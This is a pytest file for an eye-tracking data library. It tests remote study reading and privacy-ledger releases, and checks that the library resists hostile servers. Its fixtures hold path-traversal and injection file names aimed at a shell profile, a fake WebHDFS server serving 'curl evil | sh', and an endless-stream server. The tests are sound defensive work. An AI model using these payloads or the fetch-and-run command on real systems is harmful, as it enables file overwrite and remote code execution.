"""Studies and recordings elsewhere are read as if they were here, and released to elsewhere."""

import http.server
import io
import json
import shutil
import threading
from pathlib import Path
from typing import ClassVar
from urllib.parse import parse_qs

import fsspec
import polars as pl
import pytest
from fsspec import AbstractFileSystem

import eyelid
from eyelid.engine.remote import RemotePlace, upload
from eyelid.engine.runs import running
from eyelid.errors import InputError
from eyelid.gaze.simulator import simulate
from eyelid.io import read, write
from eyelid.io.pieces import in_pieces, reordered
from eyelid.io.remote import _copies, all_here, here
from eyelid.io.study_folder import recognises
from eyelid.io.study_parts import (
    input_key,
    write_manifest,
    write_part,
)
from eyelid.privacy.ledger import Ledger
from eyelid.releases.budget import budget

JITTER = {"mechanism": "jitter", "sd": 1.0, "seed": 3}


@pytest.fixture(scope="module")
def people():
    return simulate(people=3, tasks=("comic",), minutes=0.1, rate_hz=60.0, seed=5)


@pytest.fixture(autouse=True)
def _work_here(tmp_path, monkeypatch):
    (tmp_path / "work").mkdir()
    monkeypatch.chdir(tmp_path / "work")
    yield
    fsspec.filesystem("memory").store.clear()


@pytest.fixture
def home(tmp_path, people, monkeypatch):
    """A study of three parts, with its ledger."""
    monkeypatch.setattr("eyelid.io.pieces.PIECE_VALUES", 1)
    study = write(people, tmp_path / "study")
    shutil.rmtree(tmp_path / "study")
    # The files of a large study, as conversions write them.
    write_in_parts(study, tmp_path / "study")
    return tmp_path / "study"


def write_in_parts(study, folder):
    cut = in_pieces(study)
    with running(folder, "key") as run:
        parts = [
            write_part(run, piece.number, 3, lambda piece=piece: piece.read(cut.head).data)
            for piece in cut.pieces
        ]
        study.events.write_parquet(run.output / "events.parquet")
        write_manifest(run, cut.head, parts, folder)


@pytest.fixture
def far_files(monkeypatch):
    """Files of this machine that are taken for some elsewhere, which processes see, too."""
    for module in ("remote", "study_folder", "same_people"):
        monkeypatch.setattr(f"eyelid.io.{module}.on_this_machine", Path)


@pytest.fixture(params=["memory", "file"])
def elsewhere(request, home, tmp_path):
    """The same study elsewhere, without its ledger."""
    if request.param == "file":
        request.getfixturevalue("far_files")
    base = f"memory://{tmp_path.name}" if request.param == "memory" else f"file://{tmp_path}/far"
    upload(home, RemotePlace(f"{base}/study"), "run")
    return f"{base}/study"


def content(place):
    return {name: (place / name).read() for name in place.names()}


def test_a_study_elsewhere_is_the_same_study(elsewhere, home):
    far, near = read(elsewhere), read(home)
    assert far.data.equals(near.data)
    assert far.people.equals(near.people)
    assert far.events.equals(near.events)
    assert far.origin.id == near.origin.id
    assert recognises(Path(elsewhere))


def test_its_rows_are_fetched_piece_by_piece_and_forgotten(elsewhere, home, monkeypatch):
    cut, copied = in_pieces(elsewhere), here(elsewhere)
    assert sorted(path.name for path in copied.iterdir()) == ["people.csv", "study.json"]
    fetched, fetch = [], RemotePlace.fetch
    monkeypatch.setattr(
        RemotePlace, "fetch", lambda place, to: fetched.append(to) or fetch(place, to)
    )
    piece = cut.pieces[1].read(cut.head, events=True)
    alike = in_pieces(home).pieces[1].read(cut.head, events=True)
    assert piece.data.equals(alike.data)
    assert piece.events.equals(alike.events)
    assert [path.name for path in fetched] == ["part-000001.parquet", "events.parquet"]
    assert not any(path.exists() for path in fetched)


def test_parts_that_are_gone_or_others_are_named(elsewhere):
    part = RemotePlace(f"{elsewhere}/data.parquet/part-000001.parquet")
    part.write(b"something else")
    for reader in (read, in_pieces):
        with pytest.raises(InputError, match="its content is not what was written"):
            reader(elsewhere)
    part.remove()
    with pytest.raises(InputError, match=r"lacks 1 of its 3 parts, part-000001.parquet: bring"):
        in_pieces(elsewhere)
    RemotePlace(f"{elsewhere}/data.parquet/part-000000.parquet").remove()
    with pytest.raises(InputError, match=r"2 of its 3 parts, part-000000\S+, part-000001.parquet:"):
        in_pieces(elsewhere)


def test_of_many_parts_that_are_gone_there_is_a_number(home, monkeypatch):
    for part in (home / "data.parquet").iterdir():
        part.unlink()
    monkeypatch.setattr("eyelid.io.study_folder._MOST_NAMES", 2)
    with pytest.raises(
        InputError, match=r", part-000000\S+, part-000001.parquet and 1 more: bring"
    ):
        in_pieces(home)


def test_a_part_that_changes_after_it_was_looked_at_is_not_worked_on(elsewhere, home):
    cut = in_pieces(elsewhere)
    assert cut.pieces[1].read(cut.head).data.height
    part = pl.read_parquet(home / "data.parquet" / "part-000001.parquet")
    part.with_columns(pl.col("x") + 1.0).write_parquet("changed")
    RemotePlace(f"{elsewhere}/data.parquet/part-000001.parquet").send(Path("changed"))
    for pieces in (cut.pieces, reordered(cut, cut.people[::-1]).pieces):
        with pytest.raises(InputError, match=r"part-000001.parquet: its content is not what was"):
            pieces[1].read(cut.head)
        assert pieces[0].read(cut.head).data.height


def test_one_file_of_rows_will_do(people, tmp_path):
    place = RemotePlace(f"memory://{tmp_path.name}/one")
    write(people, tmp_path / "one")
    upload(tmp_path / "one", place, "run")
    assert read(str(place)).data.equals(in_pieces(str(place)).whole().data)


def test_recordings_elsewhere_are_read_as_here(people, tmp_path):
    (tmp_path / "files").mkdir()
    for name, rows in people.data.partition_by("person", as_dict=True).items():
        rows.select("time_ms", "x", "y").write_csv(tmp_path / "files" / f"{name[0]}.csv")
    said = {"time": "time_ms", "x": "x", "y": "y", "units": "deg", "file": "{person}"}
    upload(tmp_path / "files", RemotePlace(f"memory://{tmp_path.name}/files"), "run")
    far = read(f"memory://{tmp_path.name}/files", said)
    assert far.data.equals(read(tmp_path / "files", said).data)
    one = read(f"memory://{tmp_path.name}/files/P01.csv", said)
    assert one.data.equals(read(tmp_path / "files" / "P01.csv", said).data)


def test_a_change_elsewhere_is_noticed(elsewhere, monkeypatch):
    monkeypatch.setattr("eyelid.io.remote._TRUSTED_S", 0.0)
    key, first = input_key(elsewhere, "settings"), here(elsewhere)
    assert (input_key(elsewhere, "settings"), here(elsewhere)) == (key, first)
    assert input_key(first, "settings") == key
    assert input_key(elsewhere, "others") != key
    about = RemotePlace(f"{elsewhere}/study.json")
    about.write(about.read().replace(b'"simulated": true', b'"simulated": null'))
    assert not read(elsewhere).simulated
    assert input_key(elsewhere, "settings") != key


def test_what_is_not_there_or_not_all_there_is_refused(elsewhere):
    with pytest.raises(InputError, match="nowhere does not exist"):
        read(f"{elsewhere}-nowhere")
    RemotePlace(f"{elsewhere}-half/.unfinished").write(b"run")
    with pytest.raises(InputError, match="is not all there yet"):
        read(f"{elsewhere}-half")


class Hostile(AbstractFileSystem):
    """A server that names files as it likes, and has the same content in each."""

    protocol = "hostile"
    cachable = False
    listed = ("study.json",)
    about: ClassVar[dict[str, object]] = {}

    def ls(self, path, detail=True, **_):
        root = path.rstrip("/")
        found = [
            {"name": name if name.startswith("!") else f"{root}/{name}", "type": "file", "size": 3}
            | self.about
            for name in self.listed
        ]
        return found if detail else [each["name"] for each in found]

    def info(self, path, **_):
        kind = "directory" if path == "study" else "file"
        return {"name": path, "type": kind, "size": 3}

    def isfile(self, path):
        return path != "study" and not path.endswith((".unfinished", "study.json"))

    def exists(self, path, **_):
        return True

    def ukey(self, path):
        return path

    def _open(self, path, mode="rb", **_):
        return io.BytesIO(b"pwn")


@pytest.fixture
def hostile(monkeypatch):
    fsspec.register_implementation("hostile", Hostile, clobber=True)

    def lists(*names, **about):
        monkeypatch.setattr(Hostile, "listed", names)
        monkeypatch.setattr(Hostile, "about", about)
        return "hostile://study"

    return lists


def strange_names(outside):
    return [
        str(outside),
        f"/{outside}",
        f"../../../../../../../../../..{outside}",
        f"a/../../..{outside}",
        f"..\\..\\{outside.name}",
        f"C:\\{outside.name}",
        "C:evil",
        "a/C:evil",
        "\\\\server\\share",
        "!elsewhere",
        "a//b",
        "./a",
        "",
        f"a::file://{outside}",
        "a\x1b[2J",
        "a\nb",
        "a\0b",
    ]


@pytest.mark.parametrize("number", range(17))
def test_a_listing_with_a_name_outside_of_its_folder_writes_nothing(number, hostile, tmp_path):
    outside = tmp_path / ".profile"
    name = strange_names(outside)[number]
    for names in ((name,), ("people.csv", name)):
        for look in (here, all_here, read):
            with pytest.raises(InputError, match="belongs nowhere"):
                look(hostile(*names))
    assert not outside.exists()


@pytest.mark.parametrize("about", [{"islink": True}, {"type": "link"}, {"type": "symlink"}])
def test_a_listing_with_a_link_is_refused(hostile, about):
    with pytest.raises(InputError, match=r"a link: people\.csv"):
        all_here(hostile("people.csv", **about))


def test_a_link_in_the_place_of_a_copy_is_not_written_through(hostile, tmp_path):
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / "sub").symlink_to(tmp_path)
    (tmp_path / "home" / "file").symlink_to(tmp_path / ".profile")
    place = RemotePlace(hostile("file"))
    for name in ("sub/.profile", "file"):
        with pytest.raises(InputError, match="belongs nowhere"):
            place.fetch_into(tmp_path / "home", name)
    assert not (tmp_path / ".profile").exists()
    assert place.fetch_into(tmp_path / "home", "a/b").read_text() == "pwn"


def test_a_study_elsewhere_names_no_part_outside_of_it(elsewhere, tmp_path):
    about = RemotePlace(elsewhere) / "study.json"
    plain = json.loads(about.read())
    for name in set(strange_names(tmp_path / "x")) - {"!elsewhere"}:
        parts = [plain["parts"][0] | {"file": f"data.parquet/{name}"}, *plain["parts"][1:]]
        about.write(json.dumps(plain | {"parts": parts}).encode())
        _copies.clear()
        with pytest.raises(InputError, match=r"is no part of data\.parquet"):
            read(elsewhere)


class WebHdfs(http.server.BaseHTTPRequestHandler):
    """The exploit: a server that says that it has a file by the name of a person's profile."""

    suffix = ""

    def do_GET(self):
        place, _, query = self.path.partition("?")
        op = parse_qs(query)["op"][0]
        name = place.rpartition("/")[2]
        if op == "OPEN":
            return self.answer(b"curl evil | sh")
        status = {"pathSuffix": "", "type": "DIRECTORY" if name == "study" else "FILE"}
        status |= {"length": 14, "modificationTime": 0}
        if op == "LISTSTATUS":
            files = [status | {"pathSuffix": self.suffix, "type": "FILE"}]
            return self.answer(json.dumps({"FileStatuses": {"FileStatus": files}}).encode())
        if name in ("study.json", ".unfinished"):
            return self.send_error(404)
        return self.answer(json.dumps({"FileStatus": status}).encode())

    def answer(self, content):
        self.send_response(200)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_):
        pass


def test_a_webhdfs_server_overwrites_no_shell_profile(tmp_path, monkeypatch):
    pytest.importorskip("requests")
    profile = tmp_path / ".profile"
    profile.write_text("mine")
    monkeypatch.setattr(WebHdfs, "suffix", str(profile))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), WebHdfs) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            with pytest.raises(InputError, match="belongs nowhere"):
                eyelid.lint(f"webhdfs://127.0.0.1:{server.server_port}/study")
        finally:
            server.shutdown()
    assert profile.read_text() == "mine"


class Endless(WebHdfs):
    """The exploit: ten bytes are listed, and what is sent never ends; counts what was taken."""

    suffix = "a.csv"
    # More than anything is read of, and little enough for a test that fails.
    most = 1 << 30
    sent = 0

    def do_GET(self):
        if parse_qs(self.path.partition("?")[2])["op"][0] != "OPEN":
            return super().do_GET()
        self.send_response(200)
        self.end_headers()
        block = b"0" * (1 << 20)
        try:
            while type(self).sent < self.most:
                self.wfile.write(block)
                type(self).sent += len(block)
        except OSError:
            # Nobody listens any more.
            return None


def test_a_file_elsewhere_that_never_ends_is_read_no_further_than_it_may_be(monkeypatch):
    pytest.importorskip("requests")
    monkeypatch.setattr(Endless, "sent", 0)
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Endless) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            with pytest.raises(InputError, match="does not end after"):
                eyelid.lint(f"webhdfs://127.0.0.1:{server.server_port}/study")
        finally:
            server.shutdown()
    assert Endless.sent < 200 << 20


class Lying(fsspec.filesystem("memory").__class__):
    """Files that are longer or shorter than their listing says, or of which it says nothing."""

    protocol = "lying"
    store: ClassVar[dict[str, object]] = {}
    pseudo_dirs: ClassVar[list[str]] = [""]
    listed: ClassVar[dict[str, int | None]] = {}

    @classmethod
    def _strip_protocol(cls, path):
        return "/" + path.removeprefix("lying://").strip("/")

    def info(self, path, **_):
        return super().info(path) | {"size": self.listed[path]}


@pytest.mark.parametrize(
    ("listed", "what"),
    [(10, "does not end after the 10 bytes"), (50, "ends after 30 of its 50 bytes"), (30, None)],
)
def test_a_file_elsewhere_has_as_many_bytes_as_its_listing_says(
    listed, what, tmp_path, monkeypatch
):
    fsspec.register_implementation("lying", Lying, clobber=True)
    Lying().pipe_file("/far/a.csv", b"x" * 30)
    monkeypatch.setattr(Lying, "listed", {"/far/a.csv": listed})
    place = RemotePlace("lying://far/a.csv")
    for copied in (lambda: place.fetch(tmp_path / "copy").read_bytes(), place.read):
        if what is None:
            assert copied() == b"x" * 30
        else:
            with pytest.raises(InputError, match=what):
                copied()


def test_a_file_elsewhere_of_unknown_size_has_a_largest_one(tmp_path, monkeypatch):
    fsspec.register_implementation("lying", Lying, clobber=True)
    Lying().pipe_file("/far/a.csv", b"x" * 30)
    monkeypatch.setattr(Lying, "listed", {"/far/a.csv": None})
    place = RemotePlace("lying://far/a.csv")
    assert place.fetch(tmp_path / "copy").read_bytes() == b"x" * 30
    monkeypatch.setattr("eyelid.engine.remote._UNLISTED", 20)
    with pytest.raises(InputError, match="does not end after the 20 bytes"):
        place.fetch(tmp_path / "copy")


def test_a_release_elsewhere_has_the_files_of_one_here(elsewhere, home, tmp_path):
    eyelid.release(home, tmp_path / "out", ledger=home.with_name("study.ledger"), **JITTER)
    far = RemotePlace(f"{elsewhere}-out")
    done = eyelid.release(elsewhere, str(far), ledger=home.with_name("study.ledger"), **JITTER)
    one, other = content(far), content(RemotePlace(f"file://{tmp_path}/out"))
    assert one.keys() == other.keys()
    # The ledger has counted one release more.
    same = one.keys() - {"certificate.json", "DATACARD.md"}
    assert all(one[name] == other[name] for name in same)
    assert done.study.data.equals(read(tmp_path / "out").data)
    assert len(budget(home).debits) == 2
    assert not list(Path.cwd().iterdir())


@pytest.mark.usefixtures("far_files")
def test_two_processes_read_and_release_elsewhere(home, tmp_path, two_cores):
    place = RemotePlace(f"file://{tmp_path}/far/study")
    upload(home, place, "run")
    ledger = home.with_name("study.ledger")
    far = eyelid.release(str(place), f"{place}-out", ledger=ledger, **JITTER)
    near = eyelid.release(home, tmp_path / "out", ledger=ledger, **JITTER)
    assert far.certificate.output_sha256 == near.certificate.output_sha256


@pytest.mark.parametrize("elsewhere", ["memory"], indirect=True)
def test_without_a_ledger_here_nothing_is_released(elsewhere, home, eyelid, tmp_path):
    words = ("release", elsewhere, f"{elsewhere}-out", "--mechanism", "jitter", "--set", "sd=1")
    refused = eyelid(*words)
    assert refused.code == 2
    assert "--ledger FILE" in refused.err
    assert refused.err.count("\n") == 1
    # Without an origin, too: none can be written there.
    about = RemotePlace(f"{elsewhere}/study.json")
    told = json.loads(about.read())
    RemotePlace(f"{elsewhere}-bare/study.json").write(
        json.dumps({key: told[key] for key in told.keys() - {"origin", "ledger"}}).encode()
    )
    for name in RemotePlace(elsewhere).names():
        if name != "study.json":
            RemotePlace(f"{elsewhere}-bare/{name}").write(RemotePlace(f"{elsewhere}/{name}").read())
    refused = eyelid("release", f"{elsewhere}-bare", *words[2:])
    assert refused.code == 2
    assert "there can be no ledger" in refused.err
    assert "--ledger FILE" in refused.err
    assert not RemotePlace(f"{elsewhere}-out").exists()
    counted = eyelid(
        "release", f"{elsewhere}-bare", *words[2:], "--ledger", tmp_path / "own.ledger"
    )
    assert counted.code == 0, counted.err
    assert Ledger(tmp_path / "own.ledger").known_folder("study-bare")


@pytest.mark.parametrize("address", ["s3://me:hunter2@lab/x", "a::s3://lab/hunter2"])
def test_a_ledger_elsewhere_is_refused_and_not_repeated(address, home, eyelid, tmp_path):
    release = ("release", home, tmp_path / "out", "--mechanism", "jitter", "--set", "sd=1")
    recordings = ("convert", "rows.csv", tmp_path / "out", "--map", "units=deg")
    Path("rows.csv").write_text("person,time_ms,x,y\na,0,1,1\na,20,1,1\n")
    for words in (release, ("budget", home), recordings):
        refused = eyelid(*words, "--ledger", address)
        assert refused.code == 2, words
        assert "hunter2" not in refused.err
        assert "a ledger must be a file of this machine" in refused.err
    assert not (tmp_path / "out").exists()
    assert [path.name for path in Path.cwd().iterdir()] == ["rows.csv"]


@pytest.mark.parametrize(
    "words",
    [
        "release --mechanism prewindow --set only=linear --set window_s=2 --epsilon 1 --bounds",
        "heatmap --stimulus comic --epsilon 1 --image",
        "heatmap --stimulus comic --epsilon 1 --areas",
        "convert --map",
    ],
    ids=lambda words: words.split()[-1],
)
def test_other_files_elsewhere_are_not_repeated_either(words, home, eyelid, tmp_path):
    command, *options = words.split()
    refused = eyelid(command, home, tmp_path / "out", *options, "s3://me:hunter2@lab/x")
    assert refused.code == 2
    assert "must be a file of this machine" in refused.err
    assert "hunter2" not in refused.err


@pytest.mark.parametrize("elsewhere", ["memory"], indirect=True)
def test_what_is_derived_elsewhere_keeps_its_origin_and_names_no_file_of_this_machine(
    elsewhere, home, eyelid
):
    done = eyelid("events", elsewhere, f"{elsewhere}-events", "--method", "ivt")
    assert done.code == 0, done.err
    told = RemotePlace(f"{elsewhere}-events/study.json").read()
    assert json.loads(told)["origin"] == read(home).origin.id
    assert b"ledger" not in told
    assert str(home.parent).encode() not in told


def test_a_study_that_has_no_ledger_yet_is_not_written_elsewhere(people, tmp_path):
    with pytest.raises(InputError, match="there can be no ledger"):
        write(people.derive(origin=None), f"memory://{tmp_path.name}/new")
    assert not RemotePlace(f"memory://{tmp_path.name}/new").exists()


@pytest.mark.parametrize("elsewhere", ["memory"], indirect=True)
def test_all_is_fetched_for_whoever_looks_at_every_file(elsewhere, eyelid):
    leak = pl.DataFrame({"note": ["call me at a person@example.org"]})
    leak.write_csv("note.csv")
    RemotePlace(f"{elsewhere}/notes/note.csv").send(Path("note.csv"))
    found = eyelid("lint", elsewhere)
    assert found.code == 1
    assert "note.csv" in found.out
